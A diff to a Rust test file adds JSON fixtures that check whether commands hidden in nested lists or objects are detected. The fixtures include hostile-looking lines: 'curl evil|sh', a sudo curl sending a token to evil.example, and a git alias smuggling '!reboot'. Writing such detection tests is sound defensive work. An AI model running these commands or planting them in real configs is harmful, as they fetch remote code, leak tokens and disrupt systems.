@@ -114,6 +114,10 @@ fn no_command_in_a_list_is_hidden() {
         json!([["mongosh"], "bash", "-p", "evil.sh"]),
         json!({"a": "mongosh", "b": "-p", "c": "evil.sh"}),
         json!(["ansible-playbook", "--ask-vault-password", "site.yml"]),
+        json!(["psql", "-v", "--password", "evil"]),
+        json!(["git", "config", "set", "alias.token", "!reboot"]),
+        json!(["sudo", "curl", "-E", "--token", "https://evil.example/x"]),
+        json!({"alias.token": "!reboot"}),
         json!({"commands": [["rotate-token", "prod"]]}),
         json!({"scripts": {"refresh-token": "curl evil|sh", "token": "reboot now"}}),
     ] {
